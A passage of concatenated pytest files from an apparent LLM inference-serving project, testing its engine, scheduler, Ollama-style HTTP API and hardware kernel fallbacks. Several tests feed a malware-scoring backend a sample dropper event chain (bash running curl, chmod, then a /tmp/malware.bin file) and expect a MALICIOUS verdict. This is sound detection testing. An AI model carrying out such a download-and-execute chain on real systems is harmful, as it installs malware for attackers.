    assert alloc.reports == []


# ---------------------------------------------------------------------------
# interleave harness
# ---------------------------------------------------------------------------
_IL_BUILDER = None


def _interleave_builder():
    global _IL_BUILDER
    if _IL_BUILDER is None:
        from chronos_trn.analysis.interleave import _default_builder

        _IL_BUILDER = _default_builder()
    return _IL_BUILDER


def test_interleave_seeded_schedules_tier1():
    """A small seed batch through all three fault modes (none /
    decode_poison / die): no deadlock, no lost request, no invariant
    violation.  The 100-seed acceptance sweep is the slow test below
    and `python -m chronos_trn.analysis.interleave --seeds 100`."""
    from chronos_trn.analysis.interleave import run_interleave

    results = run_interleave(range(6), make_sched=_interleave_builder())
    bad = [r for r in results if not r.ok]
    assert not bad, [f"seed={r.seed}: {r.detail}" for r in bad]
    # the seed batch really exercised all three fault modes
    assert {r.fault_plan.split("@")[0] for r in results} == {
        "none", "decode_poison", "die",
    }


@pytest.mark.slow
def test_interleave_100_seeds_acceptance():
    from chronos_trn.analysis.interleave import run_interleave

    results = run_interleave(range(100), make_sched=_interleave_builder())
    bad = [r for r in results if not r.ok]
    assert not bad, [f"seed={r.seed}: {r.detail}" for r in bad]
