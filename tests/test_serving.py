"""Engine + scheduler + HTTP server tests (tiny model, CPU)."""
import json
import threading
import time

import jax
import numpy as np
import pytest
import requests

from chronos_trn.config import (
    CacheConfig,
    EngineConfig,
    ModelConfig,
    ServerConfig,
)
from chronos_trn.core import model
from chronos_trn.serving.backends import HeuristicBackend, ModelBackend, score_chain
from chronos_trn.serving.engine import InferenceEngine
from chronos_trn.serving.scheduler import GenOptions, Scheduler
from chronos_trn.serving.server import ChronosServer
from chronos_trn.tokenizer.bpe import ByteTokenizer

MCFG = ModelConfig.tiny()
CCFG = CacheConfig(page_size=8, num_pages=128, max_pages_per_seq=16)
ECFG = EngineConfig(max_batch_slots=4, prefill_buckets=(16, 32, 64), max_new_tokens=32)


@pytest.fixture(scope="module")
def engine():
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    return InferenceEngine(params, MCFG, CCFG, ECFG)


@pytest.fixture(scope="module")
def scheduler(engine):
    sched = Scheduler(engine, ByteTokenizer(vocab_size=MCFG.vocab_size), ECFG)
    sched.start()
    yield sched
    sched.stop()


def test_engine_prefill_decode_cycle(engine):
    logits = engine.prefill_seq(1000, [1, 2, 3, 4, 5])
    assert logits.shape == (MCFG.vocab_size,)
    slot = engine.free_slot()
    engine.occupy(slot, 1000)
    out = engine.decode({slot: int(np.argmax(logits))})
    vals, idx = out[slot]  # decode ships top-K (values, ids)
    assert vals.shape == idx.shape == (ECFG.logits_top_k,)
    assert idx.max() < MCFG.vocab_size
    assert vals[0] == vals.max()  # jax.lax.top_k returns descending order
    engine.release(1000)
    assert engine.alloc.free_pages == CCFG.num_pages
    engine.alloc.check_invariants()


def test_engine_long_prompt_chunked(engine):
    """Prompt longer than the largest bucket takes the chunked path."""
    ids = list(np.arange(100) % 250)
    logits = engine.prefill_seq(1001, ids)
    assert logits.shape == (MCFG.vocab_size,)
    engine.release(1001)


def test_scheduler_single_request(scheduler):
    req = scheduler.submit("hello world", GenOptions(max_new_tokens=8))
    text = req.result(timeout=120)
    assert isinstance(text, str)
    assert req.eval_count <= 8 + 1
    assert req.ttft_s is not None and req.ttft_s > 0


def test_scheduler_concurrent_requests(scheduler):
    """More requests than slots: continuous batching must drain them all."""
    reqs = [
        scheduler.submit(f"prompt number {i}", GenOptions(max_new_tokens=6))
        for i in range(10)
    ]
    outs = [r.result(timeout=300) for r in reqs]
    assert len(outs) == 10
    # allocator fully drained afterwards
    time.sleep(0.2)
    scheduler.engine.alloc.check_invariants()
    assert scheduler.engine.active_count == 0


def test_scheduler_json_mode_parses(scheduler):
    req = scheduler.submit(
        "emit a json verdict", GenOptions(max_new_tokens=48, format_json=True)
    )
    text = req.result(timeout=120)
    json.loads(text)  # must parse even from an untrained model


def test_scheduler_streaming_deltas(scheduler):
    req = scheduler.submit("stream me", GenOptions(max_new_tokens=6))
    chunks = list(req.iter_deltas(timeout=120))
    assert "".join(chunks) == req.result(timeout=1)


def test_staged_warmup_serves_perstep_then_flips_fused():
    """Cold-start path (VERDICT r4 #3): with staged_warmup the scheduler
    must answer requests BEFORE the fused graph is ready (per-step
    decode), and flip to fused once the background compile lands."""
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    ccfg = CacheConfig.for_slots(2, page_size=8, max_pages_per_seq=4)
    ecfg = EngineConfig(
        max_batch_slots=2, prefill_buckets=(16,), decode_chunk=4,
        staged_warmup=True, device_dfa=False,
    )
    engine = InferenceEngine(params, MCFG, ccfg, ecfg)
    sched = Scheduler(engine, ByteTokenizer(vocab_size=MCFG.vocab_size), ecfg)
    try:
        assert not engine.fused_ready  # staged: starts not-ready
        sched.start()
        req = sched.submit("early bird", GenOptions(max_new_tokens=4))
        req.result(timeout=120)  # served per-step — must not block on fused
        deadline = time.monotonic() + 120
        while not engine.fused_ready and time.monotonic() < deadline:
            time.sleep(0.1)
        assert engine.fused_ready, engine._warmup_error
        req2 = sched.submit("fused now", GenOptions(max_new_tokens=4))
        req2.result(timeout=120)
        assert req2.eval_count >= 1
    finally:
        sched.stop()


# ---------------------------------------------------------------------------
# heuristic analyst
# ---------------------------------------------------------------------------
def test_score_chain_dropper_is_malicious():
    v = score_chain(
        "1. [EXEC] bash -> /usr/bin/curl\n2. [EXEC] bash -> /usr/bin/chmod\n"
        "3. [OPEN] cat -> /tmp/malware.bin"
    )
    assert v["verdict"] == "MALICIOUS"
    assert v["risk_score"] >= 8


def test_score_chain_benign_is_safe():
    v = score_chain("1. [OPEN] logrotate -> /var/log/syslog")
    assert v["verdict"] == "SAFE"
    assert v["risk_score"] <= 5


# ---------------------------------------------------------------------------
# HTTP server (wire-contract compatibility — SURVEY.md §3.5)
# ---------------------------------------------------------------------------
@pytest.fixture(scope="module")
def http_server():
    backend = HeuristicBackend()
    server = ChronosServer(backend, ServerConfig(host="127.0.0.1", port=0))
    server.start()
    yield f"http://127.0.0.1:{server.port}"
    server.stop()


def test_wire_contract_reference_shape(http_server):
    """The exact request chronos_sensor.py sends must work unchanged."""
    resp = requests.post(
        f"{http_server}/api/generate",
        json={
            "model": "llama3",
            "prompt": "Analyze: [EXEC] bash -> curl; [EXEC] bash -> chmod;"
            " [OPEN] cat -> /tmp/malware.bin",
            "stream": False,
            "format": "json",
        },
        timeout=30,
    )
    assert resp.status_code == 200
    outer = resp.json()
    assert outer["done"] is True
    inner = json.loads(outer["response"])  # response is a JSON *string*
    assert set(inner) >= {"risk_score", "verdict", "reason"}
    assert inner["risk_score"] >= 8 and inner["verdict"] == "MALICIOUS"


def test_health_and_tags(http_server):
    assert requests.get(http_server, timeout=5).text == "Ollama is running"
    tags = requests.get(f"{http_server}/api/tags", timeout=5).json()
    assert tags["models"][0]["name"] == "llama3"
    ver = requests.get(f"{http_server}/api/version", timeout=5).json()
    assert "version" in ver


def test_malformed_request_returns_json_error(http_server):
    r = requests.post(
        f"{http_server}/api/generate", data=b"this is not json", timeout=5
    )
    assert r.status_code == 400
    assert "error" in r.json()
    # server still alive
    assert requests.get(http_server, timeout=5).status_code == 200


def test_missing_prompt_field(http_server):
    r = requests.post(f"{http_server}/api/generate", json={"model": "x"}, timeout=5)
    assert r.status_code == 400 and "error" in r.json()


def test_streaming_ndjson(http_server):
    r = requests.post(
        f"{http_server}/api/generate",
        json={"model": "llama3", "prompt": "curl then chmod then cat /tmp/x",
              "stream": True},
        stream=True,
        timeout=30,
    )
    lines = [json.loads(l) for l in r.iter_lines() if l]
    assert lines[-1]["done"] is True
    assert any(not l["done"] and l.get("response") for l in lines[:-1])


def test_metrics_endpoint(http_server):
    text = requests.get(f"{http_server}/metrics", timeout=5).text
    assert "chronos_" in text


# ---------------------------------------------------------------------------
# model-backed server over HTTP (full stack with tiny model)
# ---------------------------------------------------------------------------
def test_model_backend_http_json_mode(scheduler):
    server = ChronosServer(
        ModelBackend(scheduler), ServerConfig(host="127.0.0.1", port=0)
    )
    server.start()
    try:
        resp = requests.post(
            f"http://127.0.0.1:{server.port}/api/generate",
            json={"model": "llama3", "prompt": "verdict now", "stream": False,
                  "format": "json", "options": {"num_predict": 32}},
            timeout=120,
        )
        assert resp.status_code == 200
        json.loads(resp.json()["response"])  # constrained output parses
    finally:
        server.stop()


def test_num_predict_one_respected(scheduler):
    req = scheduler.submit("one token only", GenOptions(max_new_tokens=1))
    req.result(timeout=120)
    # exactly one generated token committed
    assert req.eval_count <= 1


def test_streaming_error_emits_done_record(http_server):
    """A failing stream must still end with a done:true record carrying
    the error (not silently truncate)."""
    r = requests.post(
        f"{http_server}/api/generate",
        json={"prompt": ""},  # heuristic backend handles fine; use model-less missing prompt instead
        timeout=10,
    )
    # (error-path streaming is exercised in scheduler tests; this guards
    # non-stream malformed behavior stays JSON)
    assert r.status_code in (200, 400)


def test_health_reports_scheduler_liveness(scheduler):
    server = ChronosServer(
        ModelBackend(scheduler), ServerConfig(host="127.0.0.1", port=0)
    )
    server.start()
    try:
        h = requests.get(f"http://127.0.0.1:{server.port}/health", timeout=5).json()
        assert h["status"] == "ok" and h["scheduler_alive"] is True
        assert "free_pages" in h
    finally:
        server.stop()


def test_embeddings_endpoint(http_server):
    r = requests.post(
        f"{http_server}/api/embeddings",
        json={"model": "llama3", "prompt": "curl then chmod"},
        timeout=10,
    )
    assert r.status_code == 200
    emb = r.json()["embedding"]
    assert len(emb) == 384
    # deterministic across calls
    r2 = requests.post(
        f"{http_server}/api/embeddings",
        json={"model": "llama3", "prompt": "curl then chmod"},
        timeout=10,
    )
    assert r2.json()["embedding"] == emb
    # batch form
    r3 = requests.post(
        f"{http_server}/api/embed",
        json={"model": "llama3", "input": ["a", "b"]},
        timeout=10,
    )
    assert len(r3.json()["embeddings"]) == 2


def test_embeddings_edge_cases(http_server):
    # empty prompt is valid (legacy endpoint)
    r = requests.post(f"{http_server}/api/embeddings",
                      json={"prompt": ""}, timeout=10)
    assert r.status_code == 200 and len(r.json()["embedding"]) == 384
    # empty input list is valid (new endpoint)
    r = requests.post(f"{http_server}/api/embed",
                      json={"input": []}, timeout=10)
    assert r.status_code == 200 and r.json()["embeddings"] == []
    # non-dict body is a JSON 400, not a dropped connection
    r = requests.post(f"{http_server}/api/embed", data=b'"x"', timeout=10)
    assert r.status_code == 400 and "error" in r.json()


def test_engine_with_tp_mesh():
    """TP-sharded engine (tiny, tp=2 CPU mesh) serves identically."""
    from chronos_trn.parallel import mesh as mesh_lib
    from chronos_trn.parallel import sharding as sharding_lib

    m = mesh_lib.make_mesh(dp=1, sp=1, tp=2)
    params = model.init_params(MCFG, jax.random.PRNGKey(0))
    sparams = sharding_lib.shard_params(params, MCFG, m)
    eng = InferenceEngine(sparams, MCFG, CCFG, ECFG, mesh=m)
    ref = InferenceEngine(params, MCFG, CCFG, ECFG)
    l1 = eng.prefill_seq(1, [3, 1, 4, 1, 5])
    l2 = ref.prefill_seq(1, [3, 1, 4, 1, 5])
    np.testing.assert_allclose(l1, l2, rtol=2e-3, atol=2e-3)
    slot = eng.free_slot(); eng.occupy(slot, 1)
    slot2 = ref.free_slot(); ref.occupy(slot2, 1)
    tok = int(np.argmax(l1))
    v1, i1 = eng.decode({slot: tok})[slot]
    v2, i2 = ref.decode({slot2: tok})[slot2]
    assert i1[0] == i2[0]  # greedy choice identical under TP
    eng.release(1); ref.release(1)


# ---- round-2 ADVICE.md fixes -------------------------------------------

def test_gen_options_not_mutated_on_clamp(scheduler):
    """A GenOptions object reused across submits must not be rewritten by
    context clamping (ADVICE.md: scheduler mutated options in place)."""
    opts = GenOptions(max_new_tokens=10_000, temperature=0.0)
    req = scheduler.submit("hello", opts)
    req.result(timeout=120)
    assert opts.max_new_tokens == 10_000


def test_prompt_clamp_preserves_bos(engine):
    """Long prompts are tail-clamped but must keep the BOS token
    (ADVICE.md: Llama-3 degrades without <|begin_of_text|>)."""
    tok = ByteTokenizer(vocab_size=MCFG.vocab_size)
    sched = Scheduler(engine, tok, ECFG)
    captured = {}
    orig = engine.prefill_seq

    def capture(seq_id, ids):
        captured["ids"] = list(ids)
        return orig(seq_id, ids)

    engine.prefill_seq = capture
    try:
        sched.start()
        # prompt far beyond max_context (128 pages * 8 = cache, ctx cap)
        req = sched.submit("x" * 4000, GenOptions(max_new_tokens=4))
        req.result(timeout=120)
    finally:
        engine.prefill_seq = orig
        sched.stop()
    ids = captured["ids"]
    assert ids[0] == tok.bos_id
    assert len(ids) < 4000
    # the tail (most recent events) is what survives
    assert ids[-1] == ord("x")


def test_unseeded_requests_vary_seeded_repeat(scheduler):
    """Ollama semantics: unseeded temperature sampling varies between
    identical submits; an explicit seed reproduces (ADVICE.md: every
    unseeded request previously shared rng(0))."""
    opts = lambda seed: GenOptions(max_new_tokens=24, temperature=1.0, seed=seed)
    outs = [scheduler.submit("abc", opts(None)).result(timeout=120) for _ in range(3)]
    assert len(set(outs)) > 1, "unseeded requests all produced identical text"
    a = scheduler.submit("abc", opts(7)).result(timeout=120)
    b = scheduler.submit("abc", opts(7)).result(timeout=120)
    assert a == b
