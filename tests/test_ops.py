"""Ops registry + BASS kernel tests.

The kernels themselves need real NeuronCores (bass_jit NEFFs); those
tests are marked `neuron` and skipped on CPU CI — run them on trn via
  JAX_PLATFORMS=axon python -m pytest tests/test_ops.py -m neuron
The registry's fallback logic is tested everywhere.
"""
import os

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.core.layers import causal_mask, gqa_attention, rmsnorm
from chronos_trn.ops import registry

neuron_only = pytest.mark.skipif(
    jax.devices()[0].platform != "neuron", reason="needs real NeuronCores"
)


def test_registry_falls_back_on_cpu():
    assert not registry.bass_enabled()
    x = jax.random.normal(jax.random.PRNGKey(0), (8, 64))
    w = jnp.ones(64)
    np.testing.assert_allclose(
        np.asarray(registry.rmsnorm(x, w, 1e-5)),
        np.asarray(rmsnorm(x, w, 1e-5)),
    )


def test_registry_attention_fallback_matches():
    T, H, KV, Dh = 16, 4, 2, 8
    ks = jax.random.split(jax.random.PRNGKey(1), 3)
    q = jax.random.normal(ks[0], (T, H, Dh))
    k = jax.random.normal(ks[1], (T, KV, Dh))
    v = jax.random.normal(ks[2], (T, KV, Dh))
    got = registry.flash_attention(q, k, v)
    want = gqa_attention(q, k, v, causal_mask(T, T), H // KV)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want), rtol=1e-5, atol=1e-5)


@neuron_only
def test_bass_rmsnorm_on_chip():
    from chronos_trn.ops.bass_rmsnorm import rmsnorm_bass

    x = jax.random.normal(jax.random.PRNGKey(0), (256, 512), jnp.float32)
    w = jnp.ones(512) * 1.5
    got = np.asarray(rmsnorm_bass(x, w, 1e-5))
    want = np.asarray(rmsnorm(x, w, 1e-5))
    np.testing.assert_allclose(got, want, rtol=1e-3, atol=1e-3)


@neuron_only
def test_bass_flash_attention_on_chip():
    from chronos_trn.ops.bass_attention import flash_attention_bass

    T, H, KV, Dh = 256, 4, 2, 128
    ks = jax.random.split(jax.random.PRNGKey(2), 3)
    q = jax.random.normal(ks[0], (T, H, Dh), jnp.float32) * 0.5
    k = jax.random.normal(ks[1], (T, KV, Dh), jnp.float32) * 0.5
    v = jax.random.normal(ks[2], (T, KV, Dh), jnp.float32)
    got = np.asarray(flash_attention_bass(q, k, v))
    want = np.asarray(gqa_attention(q, k, v, causal_mask(T, T), H // KV))
    assert np.abs(got - want).max() < 3e-2  # bf16 p@v tolerance
