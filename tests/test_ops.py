"""Ops registry + BASS kernel tests.

The kernels themselves need real NeuronCores (bass_jit NEFFs); those
tests are marked `neuron` and skipped on CPU CI — run them on trn via
  CHRONOS_TEST_NEURON=1 python -m pytest tests/test_ops.py -m neuron
The registry's fallback logic is tested everywhere.
"""
import os

import jax
import jax.numpy as jnp
import numpy as np
import pytest

from chronos_trn.core.layers import causal_mask, gqa_attention, rmsnorm
from chronos_trn.ops import registry


def neuron_only(fn):
    fn = pytest.mark.skipif(
        jax.devices()[0].platform != "neuron", reason="needs real NeuronCores"
    )(fn)
    return pytest.mark.neuron(fn)


def test_registry_falls_back_on_cpu():
    assert not registry.bass_enabled()
    x = jax.random.normal(jax.random.PRNGKey(0), (8, 64))
    w = jnp.ones(64)
    np.testing.assert_allclose(
        np.asarray(registry.rmsnorm(x, w, 1e-5)),
        np.asarray(rmsnorm(x, w, 1e-5)),
    )


def test_registry_attention_fallback_matches():
    T, H, KV, Dh = 16, 4, 2, 8
    ks = jax.random.split(jax.random.PRNGKey(1), 3)
    q = jax.random.normal(ks[0], (T, H, Dh))
    k = jax.random.normal(ks[1], (T, KV, Dh))
    v = jax.random.normal(ks[2], (T, KV, Dh))
    got = registry.flash_attention(q, k, v)
    want = gqa_attention(q, k, v, causal_mask(T, T), H // KV)
    np.testing.assert_allclose(np.asarray(got), np.asarray(want), rtol=1e-5, atol=1e-5)


@neuron_only
def test_bass_rmsnorm_on_chip():
    from chronos_trn.ops.bass_rmsnorm import rmsnorm_bass

    x = jax.random.normal(jax.random.PRNGKey(0), (256, 512), jnp.float32)
    w = jnp.ones(512) * 1.5
    got = np.asarray(rmsnorm_bass(x, w, 1e-5))
    want = np.asarray(rmsnorm(x, w, 1e-5))
    np.testing.assert_allclose(got, want, rtol=1e-3, atol=1e-3)


@neuron_only
def test_bass_flash_attention_on_chip():
    from chronos_trn.ops.bass_attention import flash_attention_bass

    T, H, KV, Dh = 256, 4, 2, 128
    ks = jax.random.split(jax.random.PRNGKey(2), 3)
    q = jax.random.normal(ks[0], (T, H, Dh), jnp.float32) * 0.5
    k = jax.random.normal(ks[1], (T, KV, Dh), jnp.float32) * 0.5
    v = jax.random.normal(ks[2], (T, KV, Dh), jnp.float32)
    got = np.asarray(flash_attention_bass(q, k, v))
    want = np.asarray(gqa_attention(q, k, v, causal_mask(T, T), H // KV))
    assert np.abs(got - want).max() < 3e-2  # bf16 p@v tolerance


def _paged_oracle(q, kc, vc, bt, pos):
    """Independent oracle: per-slot dense GQA over the gathered pages."""
    B, H, Dh = q.shape
    npages, ps, KV, _ = kc.shape
    out = np.zeros((B, H, Dh), np.float32)
    G = H // KV
    for b in range(B):
        n = int(pos[b]) + 1
        pages = np.asarray(bt)[b][: (n + ps - 1) // ps]
        kk = np.asarray(kc)[pages].reshape(-1, KV, Dh)[:n]
        vv = np.asarray(vc)[pages].reshape(-1, KV, Dh)[:n]
        for h in range(H):
            kvh = h // G
            s = np.asarray(q)[b, h] @ kk[:, kvh].T / np.sqrt(Dh)
            p = np.exp(s - s.max())
            p /= p.sum()
            out[b, h] = p @ vv[:, kvh]
    return out


def test_registry_paged_attention_fallback():
    B, H, KV, Dh, ps, npages, mp = 2, 4, 2, 8, 4, 16, 4
    ks = jax.random.split(jax.random.PRNGKey(3), 3)
    q = jax.random.normal(ks[0], (B, H, Dh))
    kc = jax.random.normal(ks[1], (npages, ps, KV, Dh))
    vc = jax.random.normal(ks[2], (npages, ps, KV, Dh))
    bt = jnp.asarray([[0, 1, 2, 3], [4, 5, 6, 7]], jnp.int32)
    pos = jnp.asarray([7, 11], jnp.int32)
    out = registry.paged_attention(q, kc, vc, bt, pos)
    assert out.shape == (B, H, Dh)
    want = _paged_oracle(q, kc, vc, bt, pos)
    np.testing.assert_allclose(np.asarray(out), want, rtol=1e-4, atol=1e-4)


@neuron_only
def test_bass_paged_attention_on_chip():
    from chronos_trn.ops.bass_paged_attention import paged_attention_bass

    B, H, KV, Dh, ps, npages, mp = 4, 8, 2, 128, 16, 64, 16
    rng = np.random.default_rng(1)
    q = jnp.asarray(rng.normal(size=(B, H, Dh)) * 0.5, jnp.float32)
    kc = jnp.asarray(rng.normal(size=(npages, ps, KV, Dh)) * 0.5, jnp.float32)
    vc = jnp.asarray(rng.normal(size=(npages, ps, KV, Dh)), jnp.float32)
    bt = np.zeros((B, mp), np.int32)
    pos = np.array([17, 100, 255, 33], np.int32)
    perm = rng.permutation(npages); i = 0
    for b in range(B):
        need = pos[b] // ps + 1
        bt[b, :need] = perm[i : i + need]; i += need
    got = np.asarray(
        paged_attention_bass(q, kc, vc, jnp.asarray(bt), jnp.asarray(pos))
    )
    # oracle must NOT go through the registry (which could dispatch right
    # back to the kernel under CHRONOS_BASS_KERNELS=1)
    want = _paged_oracle(q, kc, vc, bt, pos)
    assert np.abs(got - want).max() < 3e-2


def test_model_prefill_dispatches_bass_rmsnorm(monkeypatch):
    """CHRONOS_BASS_KERNELS must actually change the model's compiled
    graph (VERDICT r4 #2: the registry used to be dead code).  Force
    dispatch on CPU with spy kernels and run the REAL model.prefill at
    an eligible bucket (T=128): the rmsnorm spy must fire from inside
    the layer scan and numerics must match the pure-XLA path."""
    from chronos_trn.config import CacheConfig, ModelConfig
    from chronos_trn.core import kvcache as kv
    from chronos_trn.core import model
    from chronos_trn.ops import bass_attention, bass_rmsnorm

    calls = {"rmsnorm": 0, "flash": 0}

    def spy_rmsnorm(x, w, eps):
        calls["rmsnorm"] += 1
        return rmsnorm(x, w, eps)

    def spy_flash(q, k, v):
        calls["flash"] += 1
        return gqa_attention(q, k, v, causal_mask(q.shape[0], q.shape[0]),
                             q.shape[1] // k.shape[1])

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "1")
    monkeypatch.setattr(bass_rmsnorm, "rmsnorm_bass", spy_rmsnorm)
    monkeypatch.setattr(bass_attention, "flash_attention_bass", spy_flash)

    cfg = ModelConfig.tiny(dim=128)  # D >= 128 for registry eligibility
    ccfg = CacheConfig.for_slots(2, page_size=8, max_pages_per_seq=16)
    params = model.init_params(cfg, jax.random.PRNGKey(0), dtype=jnp.float32)
    cache = kv.init_cache(cfg, ccfg, dtype=jnp.float32)
    alloc = kv.SlotContiguousAllocator(ccfg, 2)
    st = alloc.allocate(0, 100, slot=0)
    toks = jnp.asarray(np.arange(128) % cfg.vocab_size, jnp.int32)

    logits_bass, _ = model.prefill(
        params, cfg, ccfg, cache, toks, jnp.int32(100), jnp.asarray(st.block_table)
    )
    assert calls["rmsnorm"] > 0, "registry.rmsnorm never reached the BASS path"
    assert calls["flash"] > 0, "registry.flash_attention never reached BASS"

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "0")
    cache2 = kv.init_cache(cfg, ccfg, dtype=jnp.float32)
    logits_xla, _ = model.prefill(
        params, cfg, ccfg, cache2, toks, jnp.int32(100), jnp.asarray(st.block_table)
    )
    np.testing.assert_allclose(
        np.asarray(logits_bass), np.asarray(logits_xla), rtol=1e-5, atol=1e-5
    )


def test_model_paged_decode_dispatches_bass_attention(monkeypatch):
    """The paged decode branch must route attention through the registry
    (long-context --paged serving mode)."""
    from chronos_trn.config import CacheConfig, ModelConfig
    from chronos_trn.core import kvcache as kv
    from chronos_trn.core import model
    from chronos_trn.core.layers import paged_gqa_attention
    from chronos_trn.ops import bass_paged_attention

    calls = {"paged": 0}

    def spy_paged(q, kc, vc, bt, pos):
        calls["paged"] += 1
        return paged_gqa_attention(q, kc, vc, bt, pos)

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "1")
    monkeypatch.setattr(bass_paged_attention, "paged_attention_bass", spy_paged)

    cfg = ModelConfig.tiny(head_dim=16)
    # eligibility: 128 % ps == 0 and max_pages % (128 // ps) == 0
    ccfg = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=16)
    params = model.init_params(cfg, jax.random.PRNGKey(0), dtype=jnp.float32)
    cache = kv.init_cache(cfg, ccfg, dtype=jnp.float32)
    B = 2
    bt = np.zeros((B, ccfg.max_pages_per_seq), np.int32)
    bt[0] = np.arange(16)
    bt[1] = np.arange(16, 32)
    logits, _ = model.decode_step(
        params, cfg, ccfg, cache,
        jnp.zeros(B, jnp.int32), jnp.asarray([3, 5], jnp.int32),
        jnp.asarray(bt), jnp.ones(B, bool), slot_view=False,
    )
    assert calls["paged"] > 0, "registry.paged_attention never reached BASS"
    assert np.isfinite(np.asarray(logits)).all()


# ------------------------------------------------- int8 quant matmul kernel


def test_registry_quant_matmul_fallback_matches_twin():
    """On CPU (kernels off) the registry must be byte-identical to the
    XLA (x @ q) * s twin — same graph, zero dispatch overhead."""
    from chronos_trn.core.quant import xla_quant_matmul, xla_tied_head

    assert not registry.bass_enabled()
    rng = np.random.default_rng(7)
    x = jnp.asarray(rng.normal(size=(4, 128)), jnp.float32)
    q = jnp.asarray(rng.integers(-128, 128, size=(128, 96)), jnp.int8)
    s = jnp.asarray(rng.uniform(0.01, 0.1, size=(96,)), jnp.float32)
    np.testing.assert_array_equal(
        np.asarray(registry.quant_matmul(x, q, s)),
        np.asarray(xla_quant_matmul(x, q, s)),
    )
    qt = jnp.transpose(q)  # [N, K]: the quantized embed-table layout
    np.testing.assert_array_equal(
        np.asarray(registry.quant_tied_head(x, qt, s)),
        np.asarray(xla_tied_head(x, qt, s)),
    )


def test_quant_matmul_ineligible_shape_falls_back_loudly(monkeypatch):
    """CHR017 contract: kernels enabled + ineligible shape (K % 128 != 0)
    must fall back to the twin AND bump bass_fallbacks_total{op=...}."""
    from chronos_trn.core.quant import xla_quant_matmul, xla_tied_head
    from chronos_trn.utils.metrics import GLOBAL as METRICS

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "1")
    key_mm = 'bass_fallbacks_total{op="quant_matmul",reason="k_not_mult_128"}'
    key_th = 'bass_fallbacks_total{op="quant_tied_head",reason="k_not_mult_128"}'
    before_mm = METRICS.snapshot().get(key_mm, 0)
    before_th = METRICS.snapshot().get(key_th, 0)
    x = jnp.ones((2, 96), jnp.float32)  # K=96: not a multiple of 128
    q = jnp.ones((96, 32), jnp.int8)
    s = jnp.ones((32,), jnp.float32)
    np.testing.assert_array_equal(
        np.asarray(registry.quant_matmul(x, q, s)),
        np.asarray(xla_quant_matmul(x, q, s)),
    )
    np.testing.assert_array_equal(
        np.asarray(registry.quant_tied_head(x, jnp.transpose(q), s)),
        np.asarray(xla_tied_head(x, jnp.transpose(q), s)),
    )
    snap = METRICS.snapshot()
    assert snap.get(key_mm, 0) == before_mm + 1
    assert snap.get(key_th, 0) == before_th + 1


def test_model_decode_dispatches_bass_quant_matmul(monkeypatch):
    """CHRONOS_BASS_KERNELS=1 + --quant int8 must change the *jitted*
    decode graph: every projection routes through the quant-matmul
    kernel (spied here; CPU has no NeuronCores) and numerics must match
    the pure-XLA twin path."""
    from chronos_trn.config import CacheConfig, ModelConfig
    from chronos_trn.core import kvcache as kv
    from chronos_trn.core import model, quant
    from chronos_trn.core.layers import paged_gqa_attention
    from chronos_trn.core.quant import xla_quant_matmul
    from chronos_trn.ops import bass_paged_attention, bass_quant_matmul
    from chronos_trn.ops import bass_rmsnorm

    calls = {"mm": 0}

    def spy_mm(x, q, s):
        calls["mm"] += 1
        return xla_quant_matmul(x, q, s)

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "1")
    monkeypatch.setattr(bass_quant_matmul, "quant_matmul_bass", spy_mm)
    # FORCE=1 forces every kernel: stub the other two with their twins
    monkeypatch.setattr(bass_rmsnorm, "rmsnorm_bass", rmsnorm)
    monkeypatch.setattr(
        bass_paged_attention, "paged_attention_bass", paged_gqa_attention
    )

    # every serving mat eligible: QD = KVD = ffn = dim = 128, all K%128==0
    cfg = ModelConfig.tiny(dim=128, head_dim=32, n_kv_heads=4)
    ccfg = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=16)
    params = model.init_params(cfg, jax.random.PRNGKey(0), dtype=jnp.float32)
    qparams = quant.quantize_params(params)
    cache = kv.init_cache(cfg, ccfg, dtype=jnp.float32)
    B = 2
    bt = np.zeros((B, ccfg.max_pages_per_seq), np.int32)
    bt[0] = np.arange(16)
    bt[1] = np.arange(16, 32)
    toks = jnp.zeros(B, jnp.int32)
    pos = jnp.asarray([3, 5], jnp.int32)

    step = jax.jit(
        lambda p, c, t, po, b, a: model.decode_step(
            p, cfg, ccfg, c, t, po, b, a, slot_view=False
        )
    )
    logits_bass, _ = step(
        qparams, cache, toks, pos, jnp.asarray(bt), jnp.ones(B, bool)
    )
    # 7 projections/layer * 2 layers + untied lm_head = 15 trace-time hits
    assert calls["mm"] >= 8, "jitted decode never reached the quant kernel"

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "0")
    logits_xla, _ = model.decode_step(
        qparams, cfg, ccfg, cache, toks, pos,
        jnp.asarray(bt), jnp.ones(B, bool), slot_view=False,
    )
    np.testing.assert_allclose(
        np.asarray(logits_bass), np.asarray(logits_xla), rtol=1e-5, atol=1e-5
    )


def test_model_decode_dispatches_bass_quant_tied_head(monkeypatch):
    """Tied-embedding configs route the lm head through the transposed
    kernel path (q stored [V, D])."""
    from chronos_trn.config import CacheConfig, ModelConfig
    from chronos_trn.core import kvcache as kv
    from chronos_trn.core import model, quant
    from chronos_trn.core.layers import paged_gqa_attention
    from chronos_trn.core.quant import xla_quant_matmul, xla_tied_head
    from chronos_trn.ops import bass_paged_attention, bass_quant_matmul
    from chronos_trn.ops import bass_rmsnorm

    calls = {"tied": 0}

    def spy_tied(x, q, s):
        calls["tied"] += 1
        return xla_tied_head(x, q, s)

    monkeypatch.setenv("CHRONOS_BASS_FORCE", "1")
    monkeypatch.setattr(bass_quant_matmul, "quant_tied_head_bass", spy_tied)
    monkeypatch.setattr(bass_quant_matmul, "quant_matmul_bass", xla_quant_matmul)
    monkeypatch.setattr(bass_rmsnorm, "rmsnorm_bass", rmsnorm)
    monkeypatch.setattr(
        bass_paged_attention, "paged_attention_bass", paged_gqa_attention
    )

    cfg = ModelConfig.tiny(
        dim=128, head_dim=32, n_kv_heads=4, tie_embeddings=True
    )
    ccfg = CacheConfig(page_size=8, num_pages=64, max_pages_per_seq=16)
    params = model.init_params(cfg, jax.random.PRNGKey(0), dtype=jnp.float32)
    assert params.get("lm_head") is None  # tied: head IS the embed table
    qparams = quant.quantize_params(params)
